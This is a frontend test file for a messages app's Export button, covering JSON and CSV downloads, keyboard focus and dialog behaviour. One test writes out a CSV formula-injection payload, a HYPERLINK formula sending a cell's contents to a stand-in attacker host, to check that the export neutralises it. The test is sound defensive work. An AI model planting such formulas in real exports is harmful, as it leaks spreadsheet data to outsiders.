import { act, render, screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, it } from 'vitest';
import { DEMO_CONTACTS, DEMO_SHOP_NUMBER } from '../../../../emulator/src/core/seed';
import { parseCsv } from '../../../test/csv';
import { testEmulator } from '../../../test/emulator';
import {
  cardField,
  chooseNumber,
  messageCards,
  openMessagesPage,
  readWholeList,
} from '../../../test/messagesPage';
import { testMessage } from '../../../test/messageFixture';
import { spyOnSavedFiles } from '../../../test/savedFiles';
import { ExportButton } from './ExportButton';

const saved = spyOnSavedFiles();

/** Today on this computer's calendar, as the file names write it. */
function today(): string {
  const now = new Date();
  return [now.getFullYear(), now.getMonth() + 1, now.getDate()]
    .map((n) => String(n).padStart(2, '0'))
    .join('-');
}

/** The message ids on the cards, top to bottom, read by scrolling through the whole list. */
async function shownSids(): Promise<string[]> {
  return readWholeList((item) => cardField(item, 'Message id').textContent ?? '');
}

describe('Export on the Messages page', () => {
  it('exports the number’s list as JSON and CSV from the keyboard: Enter, Tab, Enter', async () => {
    const { user } = await openMessagesPage();
    await chooseNumber(user, DEMO_SHOP_NUMBER);
    const sids = await shownSids();

    const toggle = screen.getByRole('button', { name: 'Export' });
    expect(toggle).toHaveAttribute('aria-haspopup', 'dialog');
    act(() => toggle.focus());
    await user.keyboard('{Enter}');
    const dialog = await screen.findByRole('dialog', { name: `Export ${sids.length} messages` });
    const jsonButton = within(dialog).getByRole('button', { name: `Export ${sids.length} messages as JSON` });
    // The dialog holds the focus; Tab goes from Close through CSV to JSON.
    await waitFor(() => expect(dialog.contains(document.activeElement)).toBe(true));
    await user.tab();
    await user.tab();
    await user.tab();
    expect(jsonButton).toHaveFocus();
    await user.keyboard('{Enter}');

    await waitFor(() => expect(saved.names()).toEqual([`messages-14155550100-${today()}.json`]));
    expect(saved.list[0]?.content.type).toBe('application/json');
    const records = JSON.parse(await saved.text()) as { sid: string; from: string; date_created: string }[];
    expect(records.map((record) => record.sid)).toEqual(sids);
    expect(records.every((record) => record.from.startsWith('+'))).toBe(true);
    expect(records.every((record) => /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/.test(record.date_created))).toBe(
      true,
    );
    // The dialog closes and focus goes back to Export.
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
    await waitFor(() => expect(toggle).toHaveFocus());

    await user.keyboard('{Enter}');
    await user.click(within(await screen.findByRole('dialog')).getByRole('button', { name: /as CSV$/ }));

    await waitFor(() => expect(saved.names()[1]).toBe(`messages-14155550100-${today()}.csv`));
    expect(saved.list[1]?.content.type).toBe('text/csv;charset=utf-8');
    // UTF-8 with a byte order mark, so a spreadsheet reads 'Ça marche' and emoji as they are.
    expect([...(await saved.bytes(1)).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows] = parseCsv((await saved.text(1)).slice(1));
    expect(header?.slice(0, 8)).toEqual([
      'sid',
      'date_created',
      'date_sent',
      'direction',
      'from',
      'to',
      'status',
      'body',
    ]);
    expect(rows.map((row) => row[0])).toEqual(sids);
    expect(rows.map((row) => row[7])).toContain('Ça marche, à demain ! 🥐');
    // Phone numbers stay text in a spreadsheet: a '+' cell would become a number such as 1.42E+10.
    expect(rows.every((row) => row[4]?.startsWith("'+") && row[5]?.startsWith("'+"))).toBe(true);
  });

  it('makes a formula sent as a message inert in CSV and keeps it raw in JSON', async () => {
    const body = '=HYPERLINK("https://evil.example/?"&A1,"Open, now")\nsecond line';
    testEmulator().deliverInbound({ from: DEMO_CONTACTS.maya, to: DEMO_SHOP_NUMBER, body });
    const { user } = await openMessagesPage();
    await chooseNumber(user, DEMO_SHOP_NUMBER);
    await messageCards();

    await user.click(screen.getByRole('button', { name: 'Export' }));
    await user.click(await screen.findByRole('button', { name: /as CSV$/ }));
    await user.click(screen.getByRole('button', { name: 'Export' }));
    await user.click(await screen.findByRole('button', { name: /as JSON$/ }));

    const csv = await saved.text(0);
    expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Open, now"")\nsecond line",`);
    expect(parseCsv(csv.slice(1)).some((row) => row[7] === `'${body}`)).toBe(true);
    const records = JSON.parse(await saved.text(1)) as { body: string }[];
    expect(records.map((record) => record.body)).toContain(body);
  });

  it("exports 'All numbers' as the list shows it", async () => {
    const { user } = await openMessagesPage();
    await user.click(screen.getByRole('button', { name: /^All numbers/ }));
    await screen.findByRole('list', { name: 'Messages from and to all numbers' });
    const sids = await shownSids();

    await user.click(screen.getByRole('button', { name: 'Export' }));
    await user.click(await screen.findByRole('button', { name: `Export ${sids.length} messages as CSV` }));

    await waitFor(() => expect(saved.names()).toEqual([`messages-all-numbers-${today()}.csv`]));
    const [, ...rows] = parseCsv((await saved.text()).slice(1));
    expect(rows.map((row) => row[0])).toEqual(sids);
  });
});

describe('ExportButton', () => {
  it('is disabled while there are no messages', () => {
    render(<ExportButton messages={[]} phoneNumber="+14155550100" contacts={{}} />);
    expect(screen.getByRole('button', { name: 'Export' })).toBeDisabled();
  });

  it('names one message in the singular, and saves nothing until a format is chosen', async () => {
    const user = userEvent.setup();
    render(<ExportButton messages={[testMessage({ sid: 'SM1' })]} phoneNumber={null} contacts={{}} />);
    await user.click(screen.getByRole('button', { name: 'Export' }));
    expect(saved.list).toEqual([]);
    expect(await screen.findByRole('button', { name: 'Export 1 message as JSON' })).toBeVisible();
    await user.keyboard('{Escape}');
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
    expect(saved.names()).toEqual([]);
  });
});

describe('the Export dialog closing', () => {
  it('goes away after a format is chosen even when a button inside it ends a transition of its own first', async () => {
    const user = userEvent.setup();
    render(<ExportButton messages={[testMessage({ sid: 'SM1' })]} phoneNumber={null} contacts={{}} />);
    await user.click(screen.getByRole('button', { name: 'Export' }));
    const json = await screen.findByRole('button', { name: 'Export 1 message as JSON' });
    // Choosing, then at once a transition of something inside finishing (a button's focus ring faded before
    // decision 0039): a transitionend that bubbles up to the dialog before the dialog's own.
    act(() => json.click());
    json.dispatchEvent(new Event('transitionend', { bubbles: true }));
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
    await waitFor(() => expect(saved.list).toHaveLength(1));
  });
});
